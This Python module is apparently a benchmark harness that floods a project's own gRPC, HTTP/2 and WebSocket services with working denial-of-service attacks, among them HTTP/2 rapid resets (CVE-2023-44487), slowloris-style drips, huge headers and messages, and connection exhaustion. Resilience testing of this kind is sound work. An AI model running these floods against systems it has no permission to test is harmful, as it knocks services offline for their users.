"""Attacks a process of a pipeline until this process is killed.

    python -m benchmarks.flood_attacks rapid_resets 127.0.0.1:50051

Prints "attacking" when the attack is complete, and then one number a second: the attempts so far.
"""

import argparse
import asyncio
import itertools
import os
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterable, Mapping
from contextlib import suppress
from typing import Any, NamedTuple

import grpc
import websockets

from benchmarks.flood_attacks import elements, http2
from benchmarks.flood_attacks.http2 import GENERATE, Connection
from stagemesh.client.requests import build_request
from stagemesh.common.process.lifecycle import raise_open_files_limit
from stagemesh.rpc.channels import open_channel
from stagemesh.v1.orchestrator_pb2_grpc import OrchestratorServiceStub

CONNECTIONS = 10_000
_REQUESTS_AT_ONCE = 1_000
_READERS = 1_000
_CHANNELS = 10
_OPENED_AT_ONCE = 100
_ELEMENT_CALLS = 4
_DRIP_S = 1.0
"""The time between two bytes of a slow request, in seconds."""
_HUGE_BYTES = 2 << 30
_HEADER_BYTES = 1 << 20
_REQUEST = build_request("flood", {"caller": "flood"})


class Attack:
    """An attack on an endpoint, and the number of its attempts so far."""

    def __init__(self, endpoint: str) -> None:
        self.endpoint = endpoint
        self.attempts = 0
        self.complete = asyncio.Event()

    async def idle_connections(self) -> None:
        """Opens connections and leaves them idle. Replaces those that the server closes."""
        await self._hold(self._idle)

    async def half_open(self) -> None:
        """Opens connections and sends nothing at all. Replaces those that the server closes."""
        await self._hold(self._silent)

    async def reconnects(self) -> None:
        """Opens connections and closes them at once."""
        self.complete.set()

        async def work() -> None:
            while True:
                self.attempts += 1
                with suppress(OSError):
                    await (await Connection.open(self.endpoint)).close()

        await asyncio.gather(*(work() for _ in range(_CHANNELS)))

    async def requests(self) -> None:
        """Sends requests, and for each that is rejected or answered at once another one."""
        channels = [open_channel(self.endpoint) for _ in range(_CHANNELS)]
        self.complete.set()

        async def send(stub: OrchestratorServiceStub) -> None:
            while True:
                self.attempts += 1
                with suppress(grpc.aio.AioRpcError):
                    call: Any = stub.Generate(_REQUEST)
                    while await call.read() is not grpc.aio.EOF:
                        pass

        stubs = [OrchestratorServiceStub(each) for each in channels]
        await asyncio.gather(*(send(stubs[n % _CHANNELS]) for n in range(_REQUESTS_AT_ONCE)))

    async def slow_readers(self) -> None:
        """Sends requests of large outputs on connections that are never read."""

        async def start() -> None:
            connection = await Connection.open(self.endpoint)
            stream = connection.new_stream()
            body = _request()
            await connection.send(http2.headers(stream, GENERATE) + http2.data(stream, body, ends=True))
            self.attempts += 1
            self._held.append(connection)

        self._held = list[Connection]()
        await asyncio.gather(*(start() for _ in range(_READERS)))
        self.complete.set()
        await asyncio.Event().wait()

    async def giant_headers(self) -> None:
        """Sends calls with a header of a megabyte."""
        frames = {"x-flood": "a" * _HEADER_BYTES}
        await self._repeat(lambda stream: [http2.headers(stream, GENERATE, frames)])

    async def huge_messages(self) -> None:
        """Announces messages of two gigabytes, and sends as much of them as the server takes."""
        part = bytes(1 << 20)

        def frames(stream: int) -> list[bytes]:
            begin = http2.message(part, announced_bytes=_HUGE_BYTES)
            return [http2.headers(stream, GENERATE) + http2.data(stream, begin), *[http2.data(stream, part)] * 15]

        await self._repeat(frames)

    async def rapid_resets(self) -> None:
        """Starts calls and cancels each at once (CVE-2023-44487)."""
        body = _request()
        await self._repeat(
            lambda stream: [http2.headers(stream, GENERATE) + http2.data(stream, body, ends=True) + http2.reset(stream)]
        )

    async def unfinished_calls(self) -> None:
        """Opens as many streams as it can and never sends their requests."""
        await self._repeat(lambda stream: [http2.headers(stream, GENERATE)])

    async def pings(self) -> None:
        """Sends pings as fast as the server reads them."""
        await self._repeat(lambda _stream: [http2.ping() * 100])

    async def many_elements(self) -> None:
        """Sends the orchestrator requests of 8 MiB that consist of empty elements."""
        await self._send_elements("orchestrator")

    async def stage_elements(self) -> None:
        """Sends a stage steps of this kind."""
        await self._send_elements("stage")

    async def job_elements(self) -> None:
        """Sends a job server jobs of this kind."""
        await self._send_elements("jobs")

    async def upload_messages(self) -> None:
        """Sends a media service uploads of empty messages."""
        await self._send_elements("media")

    async def json_elements(self) -> None:
        """Sends a gateway bodies whose lists have hundreds of thousands of elements."""
        await self._post("/v1/chat/completions", elements.json_bodies(), "application/json")

    async def realtime_elements(self) -> None:
        """Sends a gateway events with such lists, on WebSockets."""
        events = itertools.cycle(elements.realtime_events())

        async def talk() -> None:
            url = f"ws://{self.endpoint}/v1/realtime?model=flooded"
            async with websockets.connect(url, local_addr=(http2.ATTACKER, 0), max_size=None) as socket:
                while True:
                    self.attempts += 1
                    await socket.send(next(events))
                    await socket.recv()

        await self._forever(talk)

    async def long_audio(self) -> None:
        """Asks a gateway to transcribe small files that contain hours of audio."""
        await self._post("/v1/audio/transcriptions", [elements.long_audio()], "multipart/form-data; boundary=b")

    async def http_connections(self) -> None:
        """Opens connections to a gateway and sends nothing. Replaces those that it closes."""
        await self._hold(self._silent)

    async def slow_headers(self) -> None:
        """Sends a gateway the headers of requests byte by byte, and never ends them."""
        await self._hold(lambda: self._drip(b"POST /v1/chat/completions HTTP/1.1\r\nHost: flood\r\nX-Flood: "))

    async def slow_bodies(self) -> None:
        """Sends a gateway the bodies of requests byte by byte, and announces many megabytes."""
        await self._hold(lambda: self._drip(self._head("/v1/chat/completions", 60 << 20, "application/json")))

    async def _send_elements(self, target: str) -> None:
        ((path, messages),) = elements.grpc_calls(target).items()
        sent = itertools.cycle(messages)

        async def upload() -> AsyncIterator[bytes]:
            yield messages[0]
            while True:
                yield messages[-1]

        async def call() -> None:
            async with open_channel(self.endpoint) as channel:
                open_call: Any = channel.stream_stream if target == "media" else channel.unary_stream
                rpc = open_call(f"/stagemesh.v1.{path}")
                while True:
                    self.attempts += 1
                    with suppress(grpc.aio.AioRpcError):
                        async for _ in rpc(upload() if target == "media" else next(sent)):
                            pass

        await self._forever(call)

    async def _post(self, path: str, bodies: Iterable[bytes], kind: str) -> None:
        requests = itertools.cycle([self._head(path, len(body), kind) + body for body in bodies])

        async def post() -> None:
            reader, writer = await http2.connect(self.endpoint)
            try:
                self.attempts += 1
                writer.write(next(requests))
                await writer.drain()
                while await reader.read(1 << 16):
                    pass
            finally:
                writer.close()

        await self._forever(post)

    def _head(self, path: str, size_bytes: int, kind: str) -> bytes:
        fields = {"Host": self.endpoint, "Content-Type": kind, "Content-Length": size_bytes, "Connection": "close"}
        return "\r\n".join((f"POST {path} HTTP/1.1", *(f"{k}: {v}" for k, v in fields.items()), "", "")).encode()

    async def _forever(self, attack: Callable[[], Awaitable[None]]) -> None:
        """Runs an attack several times at once, and again if the server refuses it."""
        self.complete.set()

        async def work() -> None:
            while True:
                with suppress(OSError, websockets.WebSocketException):
                    await attack()
                await asyncio.sleep(0)

        await asyncio.gather(*(work() for _ in range(_ELEMENT_CALLS)))

    async def _drip(self, head: bytes) -> None:
        reader, writer = await http2.connect(self.endpoint)
        try:
            writer.write(head)
            reading = asyncio.ensure_future(reader.read())
            while not reading.done():
                writer.write(b"a")
                await asyncio.wait([reading], timeout=_DRIP_S)
            await reading
        finally:
            writer.close()

    async def _hold(self, hold: Callable[[], Awaitable[None]]) -> None:
        opening = asyncio.Semaphore(_OPENED_AT_ONCE)

        async def keep() -> None:
            while True:
                async with opening:
                    self.attempts += 1
                    if self.attempts == CONNECTIONS:
                        self.complete.set()
                with suppress(OSError):
                    await hold()

        await asyncio.gather(*(keep() for _ in range(CONNECTIONS)))

    async def _idle(self) -> None:
        connection = await Connection.open(self.endpoint)
        try:
            await connection.discard()
        finally:
            await connection.close()

    async def _silent(self) -> None:
        reader, writer = await http2.connect(self.endpoint)
        try:
            while await reader.read(1 << 16):
                pass
        finally:
            writer.close()

    async def _repeat(self, frames: Callable[[int], list[bytes]], *, connections: int = _CHANNELS) -> None:
        """Sends frames on several connections without a pause. Opens a connection again if the server closes it."""
        self.complete.set()

        async def work() -> None:
            while True:
                with suppress(OSError):
                    connection = await Connection.open(self.endpoint)
                    reading = asyncio.create_task(connection.discard())
                    try:
                        while not reading.done():
                            self.attempts += 1
                            for part in frames(connection.new_stream()):
                                await connection.send(part)
                            await asyncio.sleep(0)
                    finally:
                        reading.cancel()
                        await connection.close()

        await asyncio.gather(*(work() for _ in range(connections)))


def _request() -> bytes:
    return http2.message(_REQUEST.SerializeToString())


class Kind(NamedTuple):
    """A kind of attack, and the process that it attacks: orchestrator, stage, gateway, jobs or media."""

    run: Callable[[Attack], Coroutine[Any, Any, None]]
    target: str


_ATTACKS: Mapping[str, tuple[str, ...]] = {
    "orchestrator": (
        *("idle_connections", "half_open", "reconnects", "requests", "slow_readers", "giant_headers", "huge_messages"),
        *("rapid_resets", "unfinished_calls", "pings", "many_elements"),
    ),
    "stage": ("stage_elements",),
    "jobs": ("job_elements",),
    "media": ("upload_messages",),
    "gateway": (
        *("json_elements", "realtime_elements", "http_connections", "slow_headers", "slow_bodies", "long_audio"),
    ),
}
ATTACKS: Mapping[str, Kind] = {
    name: Kind(getattr(Attack, name), target) for target, names in _ATTACKS.items() for name in names
}


async def _run(name: str, endpoint: str) -> None:
    attack = Attack(endpoint)
    async with asyncio.TaskGroup() as group:
        group.create_task(ATTACKS[name].run(attack))
        await attack.complete.wait()
        print("attacking", flush=True)
        while True:
            await asyncio.sleep(1)
            print(attack.attempts, flush=True)


def main() -> None:
    """Attacks until this process is killed."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("endpoint")
    arguments = parser.parse_args()
    raise_open_files_limit()
    # An attacker has a host of its own: it takes only the processor time that nothing else needs here.
    os.nice(19)
    asyncio.run(_run(arguments.attack, arguments.endpoint))


if __name__ == "__main__":
    main()
